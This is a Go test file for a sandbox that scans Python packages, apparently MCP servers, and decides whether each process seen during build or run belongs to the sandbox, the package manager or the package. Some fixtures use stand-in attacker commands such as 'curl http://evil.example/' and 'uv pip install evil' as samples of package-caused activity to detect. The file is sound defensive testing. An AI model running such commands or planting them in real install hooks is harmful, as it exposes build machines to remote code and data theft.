package sandbox

import (
	"crypto/rand"
	"strings"
	"testing"
	"time"

	"github.com/verifymcp/verifymcp/evidence"
	"github.com/verifymcp/verifymcp/sandbox/canary"
)

// uvQuery is uv's query of an interpreter, run with the Python py.
func uvQuery(pid, ppid int, py string) execEvent {
	return execEvent{Type: "exec", PID: pid, PPID: ppid, Time: time.Unix(int64(pid), 0),
		Argv: []string{py, "-I", "-B", "-c", `import sys; sys.path = [__import__("os").fsdecode(b"/tmp/.tmpX")] + sys.path; from python.get_interpreter_info import main; main()`}}
}

const (
	uvVenv    = "uv venv /work/tree/venv --python /usr/bin/python3 --no-project --quiet --color never"
	uvInstall = "uv pip install --python /work/tree/venv/bin/python --offline --no-index --find-links /work/tree/.verifymcp/dist --find-links /work/tree/.verifymcp/built --no-deps --no-build --link-mode copy --color never -r /work/tree/.verifymcp/requirements.txt"
	uvBuild   = "uv build --wheel --offline --no-index --find-links /work/tree/.verifymcp/dist --out-dir /work/tree/.verifymcp/built --python /usr/bin/python3 --color never /work/tree/.verifymcp/dist/x-1.0.tar.gz"
)

// testWatch is a watch with only what addProcesses needs.
func testWatch(t *testing.T, driver int, forks map[int][]forkRec) *watch {
	t.Helper()
	set, err := canary.Generate(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return &watch{r: &run{}, canary: set, b: &evidence.Behavior{}, driver: driver, obs: &observerHandle{forks: forks}}
}

// TestProvenanceDriverExecMissed: the PyPI build driver (PID 16) reported
// its own PID, but its exec, and in some cases uv's, came before the
// window the tracer's events were taken from (the tracer attached late, or
// the release was timed late on a busy machine). uv and the Python it
// queries are the sandbox's, never the package's; a process whose
// ancestry cannot be established is unknown and blames no one; package
// code under the build backend is still the package's, through a process
// that forked without exec'ing.
func TestProvenanceDriverExecMissed(t *testing.T) {
	fork := func(ppid int) []forkRec { return []forkRec{{PPID: ppid}} }
	tests := []struct {
		name   string
		events []execEvent
		forks  map[int][]forkRec
		want   []evidence.Provenance
	}{
		{
			name: "wheel_uv_venv_first",
			events: []execEvent{
				ev(23, 16, uvVenv),
				uvQuery(26, 23, "/usr/bin/python3"),
				ev(27, 16, uvInstall),
				uvQuery(31, 27, "/work/tree/venv/bin/python"),
			},
			want: []evidence.Provenance{pm, pm, pm, pm},
		},
		{
			name: "wheel_uv_venv_missed_too",
			events: []execEvent{
				uvQuery(26, 23, "/usr/bin/python3"),
				ev(27, 16, uvInstall),
				uvQuery(31, 27, "/work/tree/venv/bin/python"),
			},
			forks: map[int][]forkRec{23: fork(16), 26: fork(23), 27: fork(16), 31: fork(27)},
			want:  []evidence.Provenance{provenanceUnknown, pm, pm},
		},
		{
			name: "parent_never_seen_no_fork",
			events: []execEvent{
				ev(27, 16, uvInstall),
				uvQuery(31, 27, "/work/tree/venv/bin/python"),
				ev(40, 39, "uv pip install something"),
				ev(41, 39, "python3 -c print(1)"),
				ev(42, 41, "sh -c true"),
			},
			want: []evidence.Provenance{pm, pm, provenanceUnknown, provenanceUnknown, provenanceUnknown},
		},
		{
			name: "sdist_backend_and_its_children",
			events: []execEvent{
				ev(23, 16, uvVenv),
				ev(30, 16, uvBuild),
				ev(32, 30, "/work/tree/.verifymcp/uv-cache/builds-v0/.tmp/bin/python -c hook"),
				ev(34, 33, "curl http://evil.example/"),
				ev(35, 34, "uv pip install evil"),
			},
			forks: map[int][]forkRec{33: fork(32)},
			want:  []evidence.Provenance{pm, pm, decl, pk, pk},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w := testWatch(t, 16, tc.forks)
			w.obs.nforks = len(tc.forks)
			w.addProcesses(evidence.PhaseScripts, tc.events, nil)
			if len(w.b.Processes) != len(tc.want) {
				t.Fatalf("%d processes, want %d", len(w.b.Processes), len(tc.want))
			}
			for i, p := range w.b.Processes {
				if p.Provenance != tc.want[i] {
					t.Errorf("%s: %s, want %s", strings.Join(p.Argv, " "), p.Provenance, tc.want[i])
				}
				if blames := !p.Expected; blames != (tc.want[i] == pk || tc.want[i] == decl) {
					t.Errorf("%s: expected=%v with provenance %s", strings.Join(p.Argv, " "), p.Expected, p.Provenance)
				}
			}
		})
	}
}

// TestDriverPID: the build driver's PID is read from its output's first
// line only, where nothing the step runs can write before it.
func TestDriverPID(t *testing.T) {
	for in, want := range map[string]int{
		"VERIFYMCP-DRIVER-PID 16\nVERIFYMCP-RESULT {}\n": 16,
		"VERIFYMCP-DRIVER-PID 16":                        16,
		"noise\nVERIFYMCP-DRIVER-PID 16\n":               0,
		"VERIFYMCP-DRIVER-PID x\n":                       0,
		"VERIFYMCP-DRIVER-PID -3\n":                      0,
		"":                                               0,
	} {
		if got := driverPID([]byte(in)); got != want {
			t.Errorf("driverPID(%q) = %d, want %d", in, got, want)
		}
	}
}

// TestProvenanceForksDropped: past the bound of fork events kept (a flood,
// the package's doing), a process of unknown ancestry is the package's.
func TestProvenanceForksDropped(t *testing.T) {
	w := testWatch(t, 16, nil)
	w.obs.nforks = maxForks
	w.addProcesses(evidence.PhaseScripts, []execEvent{ev(27, 16, uvInstall), ev(90, 89, "curl http://evil.example/")}, nil)
	if got := []evidence.Provenance{w.b.Processes[0].Provenance, w.b.Processes[1].Provenance}; got[0] != pm || got[1] != pk {
		t.Errorf("provenance %v, want [%s %s]", got, pm, pk)
	}
}

// TestProvenanceRunEntryFromTree: the run phase's entry point is the
// process the run wrapper (35, started before the tracer attached: no
// fork event of its own) forked, whether the tracer recorded the
// wrapper's own exec after the release (seen in a scan of a harmless
// wheel: the server was then blamed on the package) or missed the server's
// exec; what the server starts is the package's, through a double fork
// too.
func TestProvenanceRunEntryFromTree(t *testing.T) {
	server := "/work/tree/venv/bin/python /work/tree/venv/bin/harmless-mcp"
	forks := map[int][]forkRec{42: {{PPID: 35}}, 50: {{PPID: 42}}, 51: {{PPID: 50}}, 52: {{PPID: 51}}}
	tests := []struct {
		name   string
		events []execEvent
		want   []evidence.Provenance
	}{
		{"wrapper_exec_seen", []execEvent{ev(35, 0, "bash -c wrapper verifymcp-wait "+server), ev(42, 35, server), ev(50, 42, "curl http://evil.example/")}, []evidence.Provenance{sb, sb, pk}},
		{"server_exec_seen", []execEvent{ev(42, 35, server), ev(50, 42, "sh -c ls")}, []evidence.Provenance{sb, pk}},
		{"server_exec_missed", []execEvent{ev(50, 42, "sh -c ls"), ev(52, 1, "curl http://evil.example/")}, []evidence.Provenance{pk, pk}},
		{"double_fork_orphan", []execEvent{ev(42, 35, server), ev(52, 1, "curl http://evil.example/")}, []evidence.Provenance{sb, pk}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w := testWatch(t, 0, forks)
			w.obs.nforks = len(forks)
			w.addProcesses(evidence.PhaseRun, tc.events, nil)
			for i, p := range w.b.Processes {
				if p.Provenance != tc.want[i] || p.Expected != (tc.want[i] == sb) {
					t.Errorf("%s: %s (expected %v), want %s", strings.Join(p.Argv, " "), p.Provenance, p.Expected, tc.want[i])
				}
			}
		})
	}
}
